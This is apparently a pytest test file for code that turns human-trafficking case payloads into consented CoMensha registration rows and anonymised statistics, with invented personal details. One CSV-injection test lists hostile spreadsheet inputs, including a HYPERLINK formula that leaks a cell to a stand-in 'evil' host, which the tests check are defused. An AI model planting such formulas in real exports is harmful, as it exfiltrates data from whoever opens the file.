"""CoMensha registration and statistics rows, made locally from decrypted payloads."""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import datetime
from typing import Any

import pytest

from clients.comensha import (
    REGISTRATION_COLUMNS,
    STATISTICS_COLUMNS,
    CaseMaterial,
    consented,
    registration_rows,
    statistics_rows,
    write_csv,
)
from clients.errors import PayloadInvalid

FAMILY = "Zwaanmarker"
GIVEN = "Ilona Canary"
REF = "case-7Q2XK9"
BIRTH = "2001-02-03"


def at(day: str, clock: str = "12:00:00") -> int:
    """Unix seconds of ``day`` at ``clock`` UTC."""
    return int(datetime.fromisoformat(f"{day}T{clock}+00:00").timestamp())


def signal(
    exploitation: str = "unknown", observed_at: str | None = None, **person: Any
) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "schema": "schakel.signal/1",
        "person": person,
        "exploitation": exploitation,
        "urgency": "normal",
        "consent_to_share": True,
    }
    if observed_at is not None:
        doc["observed_at"] = observed_at
    return doc


def referral(
    registration: bool, recorded_on: str | None = None, exploitation: str | None = None
) -> dict[str, Any]:
    consent: dict[str, Any] = {"share_with_recipient": True, "comensha_registration": registration}
    if recorded_on is not None:
        consent["recorded_on"] = recorded_on
    doc: dict[str, Any] = {
        "schema": "schakel.referral/1",
        "service": "shelter",
        "urgency": "soon",
        "reason": "reason",
        "shared_with_person": "told",
        "consent": consent,
    }
    if exploitation is not None:
        doc["exploitation"] = exploitation
    return doc


def case(
    signals: tuple[dict[str, Any], ...] = (),
    referrals: tuple[dict[str, Any], ...] = (),
    *,
    ref: str = REF,
    first: int | None = None,
    types: tuple[str, ...] = ("police",),
) -> CaseMaterial:
    return CaseMaterial(
        ref=ref,
        first_signal=at("2025-03-10") if first is None else first,
        reporting_types=types,
        signals=signals,
        referrals=referrals,
    )


YES = referral(True, "2025-03-11")
NO = referral(False, "2025-03-11")


# --- consent ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("referrals", "expected"),
    [
        ((), False),
        ((referral(True),), True),
        ((referral(False),), False),
        ((referral(False), referral(False, "2025-01-01")), False),
        ((referral(True, "2025-01-01"), referral(True, "2025-02-01")), True),
        # withdrawn: a newer "no" beats an older "yes", whatever the order
        ((referral(True, "2025-01-01"), referral(False, "2025-02-01")), False),
        ((referral(False, "2025-02-01"), referral(True, "2025-01-01")), False),
        # given later: a newer "yes" beats an older "no"
        ((referral(False, "2025-01-01"), referral(True, "2025-02-01")), True),
        # same day, disagreeing: no
        ((referral(True, "2025-02-01"), referral(False, "2025-02-01")), False),
        # undated counts as oldest
        ((referral(True), referral(False, "2025-02-01")), False),
        ((referral(False), referral(True, "2025-02-01")), True),
        ((referral(True), referral(False)), False),
    ],
)
def test_consent_rules(referrals: tuple[dict[str, Any], ...], expected: bool) -> None:
    assert consented(case(referrals=referrals)) is expected


def test_share_with_recipient_is_not_registration_consent() -> None:
    doc = referral(False, "2025-03-11")
    doc["consent"]["share_with_recipient"] = True
    assert not consented(case(referrals=(doc,)))


# --- registration rows --------------------------------------------------------------------


def test_registration_row_holds_every_field() -> None:
    material = case(
        (
            signal(
                "labour",
                "2025-03-10",
                family_name=FAMILY,
                given_names=GIVEN,
                date_of_birth=BIRTH,
                sex="female",
                nationality="ro",
            ),
            signal("sexual", "2025-03-12", family_name=FAMILY, sex="unknown"),
        ),
        (YES,),
        first=at("2024-12-31", "23:30:00"),  # already 1 January in Amsterdam, which counts
        types=("school", "police", "police", "ggd"),
    )
    assert registration_rows([material]) == [
        {
            "case_ref": REF,
            "first_signal_date": "2025-01-01",
            "family_name": FAMILY,
            "given_names": GIVEN,
            "date_of_birth": BIRTH,
            "sex": "female",
            "nationality": "RO",
            "exploitation_forms": "labour;sexual",
            "reporting_org_types": "ggd;police;school",
            "signal_count": 2,
            "disagreements": "",
        }
    ]
    assert statistics_rows([material]) == []


def test_registration_row_of_a_case_with_nothing_known() -> None:
    row = registration_rows([case(referrals=(YES,), types=())])[0]
    assert row == {
        "case_ref": REF,
        "first_signal_date": "2025-03-10",
        "family_name": "",
        "given_names": "",
        "date_of_birth": "",
        "sex": "unknown",
        "nationality": "unknown",
        "exploitation_forms": "unknown",
        "reporting_org_types": "unknown",
        "signal_count": 0,
        "disagreements": "",
    }


def test_most_frequent_value_wins() -> None:
    signals = (
        signal(observed_at="2025-01-01", family_name="Jansen", nationality="PL"),
        signal(observed_at="2025-01-02", family_name="Janssen", nationality="pl"),
        signal(observed_at="2025-03-01", family_name="Janssen", nationality="UA"),
        signal(observed_at="2025-09-09", family_name="Jansen  ", sex="male"),
        signal(observed_at="2025-09-10", family_name="Jansen", sex="unknown"),
        signal(observed_at="2025-09-11", sex="unknown"),
    )
    row = registration_rows([case(signals, (YES,))])[0]
    assert row["family_name"] == "Jansen"  # 3 (spaces collapsed) against 2
    assert row["nationality"] == "PL"  # upper-cased: 2 against 1
    assert row["sex"] == "male"  # "unknown" is not a value


def _given(signals: tuple[dict[str, Any], ...]) -> str:
    return str(registration_rows([case(signals, (YES,))])[0]["given_names"])


def test_a_tie_goes_to_the_newest_observation() -> None:
    ana_old = signal(observed_at="2025-01-01", given_names="Ana")
    anna_new = signal(observed_at="2025-05-01", given_names="Anna")
    assert _given((ana_old, anna_new)) == "Anna"
    assert _given((anna_new, ana_old)) == "Anna"  # not the order: the date
    two_each = (
        signal(observed_at="2025-01-01", given_names="Ana"),
        signal(observed_at="2025-02-01", given_names="Anna"),
        signal(observed_at="2025-06-01", given_names="Ana"),
        signal(observed_at="2025-03-01", given_names="Anna"),
    )
    assert _given(two_each) == "Ana"


def test_a_tie_without_dates_goes_to_the_signal_listed_last() -> None:
    undated = (signal(given_names="Ana"), signal(given_names="Anna"))
    assert registration_rows([case(undated, (YES,))])[0]["given_names"] == "Anna"
    reversed_ = tuple(reversed(undated))
    assert registration_rows([case(reversed_, (YES,))])[0]["given_names"] == "Ana"
    # a dated signal is newer than an undated one, wherever it is listed
    dated_first = (signal(observed_at="2020-01-01", given_names="Ana"), signal(given_names="Anna"))
    assert registration_rows([case(dated_first, (YES,))])[0]["given_names"] == "Ana"


def test_disagreeing_dates_of_birth_pick_one_consistent_value() -> None:
    signals = (
        signal(observed_at="2025-01-01", date_of_birth="2001-02-03"),
        signal(observed_at="2025-02-01", date_of_birth="2001-03-02"),
        signal(observed_at="2025-03-01", date_of_birth="2001-03-02"),
    )
    assert registration_rows([case(signals, (YES,))])[0]["date_of_birth"] == "2001-03-02"


def test_the_best_identified_signal_names_the_person_and_disagreement_is_flagged() -> None:
    # The finding: a misspelled name from two signals outvoted the BSN-backed one.
    signals = (
        signal(observed_at="2025-01-01", bsn="111222333", given_names="Anna",
               family_name="de Vries", date_of_birth="1999-03-14"),
        signal(observed_at="2025-06-01", given_names="Ana", family_name="de Vris",
               phone="0612345678"),
        signal(observed_at="2025-07-01", given_names="Ana", family_name="de Vris"),
    )  # fmt: skip
    row = registration_rows([case(signals, (YES,))])[0]
    assert (row["given_names"], row["family_name"]) == ("Anna", "de Vries")
    assert row["date_of_birth"] == "1999-03-14"
    assert row["disagreements"] == "family_name;given_names"
    # Without the BSN signal, the phone-backed one wins over the unidentified one.
    row = registration_rows([case(signals[1:], (YES,))])[0]
    assert row["family_name"] == "de Vris" and row["disagreements"] == ""


def test_ranks_of_identification_and_what_is_not_a_disagreement() -> None:
    by_document = signal(given_names="Marta", document_number="XN1234567", document_country="PL")
    by_name = signal(given_names="Martha", family_name="Nowak", date_of_birth="2001-02-03")
    by_phone = signal(given_names="Marte", phone="0612345678")
    assert _given((by_phone, by_name, by_document)) == "Marta"
    assert _given((by_phone, by_name)) == "Martha"
    # case and spaces are not a disagreement, and the best signal's spelling is kept
    same = (signal(bsn="111222333", family_name="De  Vries"), signal(family_name="DE VRIES"))
    row = registration_rows([case(same, (YES,))])[0]
    assert (row["family_name"], row["disagreements"]) == ("De Vries", "")


@pytest.mark.parametrize(
    ("signal_forms", "referral_form", "expected"),
    [
        (("labour", "sexual", "labour", "unknown"), None, "labour;sexual"),
        (("unknown",), "criminal", "criminal"),
        (("sexual", "organ_removal"), "labour", "labour;organ_removal;sexual"),
        (("unknown", "unknown"), None, "unknown"),
        (("unknown",), "unknown", "unknown"),
        ((), None, "unknown"),
    ],
)
def test_exploitation_forms(
    signal_forms: tuple[str, ...], referral_form: str | None, expected: str
) -> None:
    material = case(
        tuple(signal(form) for form in signal_forms),
        (referral(True, "2025-03-11", referral_form),),
    )
    assert registration_rows([material])[0]["exploitation_forms"] == expected
    withdrawn = case(material.signals, (*material.referrals, referral(False, "2025-04-01")))
    assert statistics_rows([withdrawn])[0]["exploitation_forms"] == expected


def test_registration_rows_are_oldest_first_and_skip_non_consented() -> None:
    materials = [
        case(ref="c-late", first=at("2025-06-01"), referrals=(YES,)),
        case(ref="c-none", first=at("2025-01-01")),
        case(ref="c-early", first=at("2025-02-01"), referrals=(YES,)),
        case(ref="c-no", first=at("2025-01-15"), referrals=(NO,)),
    ]
    assert [row["case_ref"] for row in registration_rows(materials)] == ["c-early", "c-late"]
    assert len(statistics_rows(materials)) == 2


# --- statistics rows ----------------------------------------------------------------------

DAY = "2025-03-10"


@pytest.mark.parametrize(
    ("person", "band"),
    [
        ({"date_of_birth": "2025-03-10"}, "0-11"),  # born on the day of the first signal
        ({"date_of_birth": "2013-03-11"}, "0-11"),  # 11, turns 12 tomorrow
        ({"date_of_birth": "2013-03-10"}, "12-17"),
        ({"date_of_birth": "2007-03-11"}, "12-17"),  # 17, turns 18 tomorrow
        ({"date_of_birth": "2007-03-10"}, "18-22"),  # 18 today
        ({"date_of_birth": "2002-03-11"}, "18-22"),
        ({"date_of_birth": "2002-03-10"}, "23-29"),
        ({"date_of_birth": "1995-03-10"}, "30-39"),
        ({"date_of_birth": "1985-03-10"}, "40-49"),
        ({"date_of_birth": "1975-03-10"}, "50-64"),
        ({"date_of_birth": "1960-03-11"}, "50-64"),  # 64, turns 65 tomorrow
        ({"date_of_birth": "1960-03-10"}, "65+"),  # 65 today
        ({"date_of_birth": "1910-01-01"}, "65+"),
        ({"date_of_birth": "2025-03-11", "age_estimate": 30}, "30-39"),  # after the day: estimate
        ({"date_of_birth": "2025-03-11"}, "unknown"),
        ({"date_of_birth": "2007-03-10", "age_estimate": 40}, "18-22"),  # birth date wins
        ({"age_estimate": 17}, "12-17"),
        ({"age_estimate": 18}, "18-22"),
        ({"age_estimate": 64}, "50-64"),
        ({"age_estimate": 65}, "65+"),
        ({"age_estimate": 0}, "0-11"),
        ({}, "unknown"),
    ],
)
def test_age_band_at_the_first_signal(person: dict[str, Any], band: str) -> None:
    material = case((signal(**person),), first=at(DAY, "00:00:00"))
    assert statistics_rows([material])[0]["age_band"] == band


@pytest.mark.parametrize(("day", "band"), [("2018-02-28", "12-17"), ("2018-03-01", "18-22")])
def test_born_on_29_february(day: str, band: str) -> None:
    last_second = at(day, "22:59:59")  # 23:59:59 in Amsterdam (CET)
    material = case((signal(date_of_birth="2000-02-29"),), first=last_second)
    assert statistics_rows([material])[0]["age_band"] == band


def test_statistics_row_holds_codes_and_the_year() -> None:
    material = case(
        (
            signal("labour", date_of_birth="2001-02-03", sex="male", nationality="bg"),
            signal("criminal", sex="male"),
        ),
        first=at("2024-12-31", "22:30:00"),  # 23:30 in Amsterdam: still 2024
        types=("municipality", "ggd"),
    )
    assert statistics_rows([material]) == [
        {
            "year": 2024,
            "exploitation_forms": "criminal;labour",
            "age_band": "23-29",
            "sex": "male",
            "country_of_origin": "BG",
            "reporting_org_types": "ggd;municipality",
        }
    ]


def test_the_year_is_the_netherlands_year_of_the_first_signal() -> None:
    new_year = case((signal("labour"),), first=at("2024-12-31", "23:30:00"))  # 00:30 in NL
    assert [row["year"] for row in statistics_rows([new_year])] == [2025]


def test_statistics_row_of_a_case_with_nothing_known() -> None:
    assert statistics_rows([case(types=())]) == [
        {
            "year": 2025,
            "exploitation_forms": "unknown",
            "age_band": "unknown",
            "sex": "unknown",
            "country_of_origin": "unknown",
            "reporting_org_types": "unknown",
        }
    ]


def _canary_case(ref: str, first: int, referrals: tuple[dict[str, Any], ...]) -> CaseMaterial:
    full = signal(
        "sexual",
        "2025-04-17",
        bsn="111222333",
        given_names=GIVEN,
        family_name=FAMILY,
        date_of_birth=BIRTH,
        document_number="NXCANARY1",
        document_country="NLD",
        phone="+31 6 87654321",
        sex="female",
        nationality="NG",
    )
    full["text"] = "Canarytext seen at the Marker street"
    full["reporter"] = {"name": "Reporter Canaryname", "email": "canary@example.org"}
    return case((full,), referrals, ref=ref, first=first)


def test_anonymised_rows_hold_no_name_reference_date_or_text() -> None:
    withdrawn = (referral(True, "2025-04-01"), referral(False, "2025-04-20"))
    materials = [
        _canary_case(REF, at("2025-04-16", "08:15:00"), withdrawn),
        _canary_case("case-OTHERREF", at("2025-05-02"), ()),
    ]
    rows = statistics_rows(materials)
    assert len(rows) == 2
    out = io.StringIO(newline="")
    write_csv(rows, STATISTICS_COLUMNS, out)
    canaries = [REF, "OTHERREF", FAMILY, "Ilona", "Canary", "Marker", "111222333", "NXCANARY1"]
    canaries += ["87654321", "2001", "02-03", "04-16", "04-17", "Reporter", "canary@"]
    cells = [str(value) for row in rows for value in row.values()]
    for canary in canaries:
        assert not any(canary.lower() in cell.lower() for cell in cells), canary
        assert canary.lower() not in out.getvalue().lower(), canary
    assert not any(re.search(r"\d{4}-\d{2}|\d{2}-\d{2}-\d{4}", cell) for cell in cells)
    assert all(list(row) == list(STATISTICS_COLUMNS) for row in rows)
    assert {row["year"] for row in rows} == {2025}


def test_statistics_order_does_not_follow_the_input() -> None:
    materials = [
        case(
            (signal(form, nationality=country),),
            ref=f"case-{index}",
            first=at(f"2025-{index + 1:02d}-01"),
        )
        for index, (form, country) in enumerate(
            [("sexual", "RO"), ("labour", "PL"), ("criminal", "NL"), ("labour", "BG")]
        )
    ]
    expected = statistics_rows(materials)
    shuffled = materials[:]
    random.Random(4).shuffle(shuffled)
    assert statistics_rows(shuffled) == expected
    assert [row["country_of_origin"] for row in expected] == ["NL", "BG", "PL", "RO"]


def test_every_case_lands_in_exactly_one_file() -> None:
    materials = [
        case(ref="a", referrals=(YES,)),
        case(ref="b", referrals=(NO,)),
        case(ref="c"),
        case(ref="d", referrals=(YES, referral(False, "2025-12-01"))),
    ]
    assert len(registration_rows(materials)) + len(statistics_rows(materials)) == 4
    assert [row["case_ref"] for row in registration_rows(materials)] == ["a"]


def test_empty_input() -> None:
    assert registration_rows([]) == []
    assert statistics_rows(iter([])) == []
    out = io.StringIO(newline="")
    write_csv([], REGISTRATION_COLUMNS, out)
    assert out.getvalue() == ",".join(REGISTRATION_COLUMNS) + "\r\n"


# --- CSV ----------------------------------------------------------------------------------


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'=1+1"),  # leading spaces, tabs and line breaks are dropped first
        ("\r\n-1", "'-1"),
        ("Ana\u202eevil", "Ana\\u202eevil"),
        ("Ana\u200bZero", "Ana\\u200bZero"),
        ("Ana\x07Bell", "Ana\\u0007Bell"),
        ("Plain-Name", "Plain-Name"),
    ],
)
def test_registration_csv_defuses_formulas_and_invisible_characters(name: str, cell: str) -> None:
    material = case((signal(given_names=name, family_name=name),), (YES,))
    out = io.StringIO(newline="")
    write_csv(registration_rows([material]), REGISTRATION_COLUMNS, out)
    header, row = _read(out.getvalue())
    assert header == list(REGISTRATION_COLUMNS)
    assert row[header.index("given_names")] == cell
    assert row[header.index("family_name")] == cell


def test_write_csv_neutralises_any_cell_and_leaves_missing_columns_empty() -> None:
    out = io.StringIO(newline="")
    rows: list[dict[str, object]] = [
        {"a": "=1+1", "b": 3},
        {"b": "-x\n=y"},
        {"a": "\tx", "b": "\ry", "=c": "@z"},
    ]
    write_csv(rows, ("a", "b", "=c"), out)
    assert _read(out.getvalue()) == [
        ["a", "b", "'=c"],
        ["'=1+1", "3", ""],
        ["", "'-x\\u000a=y", ""],
        ["'\\u0009x", "'\\u000dy", "'@z"],
    ]


def test_write_csv_refuses_a_column_outside_the_header_before_writing() -> None:
    out = io.StringIO(newline="")
    with pytest.raises(ValueError, match=r"row 1 has columns the header does not name: \['z'\]"):
        write_csv([{"a": 1}, {"a": 2, "z": FAMILY}], ("a",), out)
    assert out.getvalue() == ""


# --- bad material -------------------------------------------------------------------------


def test_material_payloads_are_validated_with_their_place() -> None:
    with pytest.raises(PayloadInvalid) as info:
        case((signal(), signal(sex=FAMILY)))
    assert info.value.path == "signals[1].person.sex"
    assert FAMILY not in str(info.value)
    bad = referral(True)
    del bad["consent"]["comensha_registration"]
    with pytest.raises(PayloadInvalid) as info:
        case(referrals=(YES, bad))
    assert info.value.path == "referrals[1].consent.comensha_registration"
    assert "is required" in str(info.value)
    with pytest.raises(PayloadInvalid) as info:
        case(referrals=(signal(),))
    assert info.value.path.startswith("referrals[0].")


@pytest.mark.parametrize(
    ("field", "value", "error", "says"),
    [
        ("ref", "", ValueError, "ref"),
        ("ref", "x" * 201, ValueError, "ref"),
        ("ref", 7, ValueError, "ref"),
        ("first_signal", -1, ValueError, "first_signal"),
        ("first_signal", True, ValueError, "first_signal"),
        ("first_signal", 1.5, ValueError, "first_signal"),
        ("reporting_types", ("police", "bakery"), ValueError, r"reporting_types\[1\]"),
        ("reporting_types", ["police"], TypeError, "tuple"),
        ("signals", [signal()], TypeError, "signals must be a tuple"),
        ("referrals", None, TypeError, "referrals must be a tuple"),
    ],
)
def test_material_fields_are_checked(field: str, value: Any, error: type, says: str) -> None:
    fields: dict[str, Any] = {
        "ref": REF,
        "first_signal": at(DAY),
        "reporting_types": ("police",),
        "signals": (),
        "referrals": (),
    }
    with pytest.raises(error, match=says):
        CaseMaterial(**(fields | {field: value}))


def test_material_repr_hides_the_payloads() -> None:
    shown = repr(case((signal(family_name=FAMILY),), (YES,)))
    assert FAMILY not in shown
    assert shown == f"CaseMaterial(ref={REF!r}, signals=1, referrals=1)"


def test_materials_must_be_distinct_cases() -> None:
    with pytest.raises(ValueError, match=r"materials\[1\] repeats"):
        registration_rows([case(), case()])
    with pytest.raises(TypeError, match=r"materials\[0\] is not a CaseMaterial"):
        statistics_rows([{"ref": REF}])  # type: ignore[list-item]
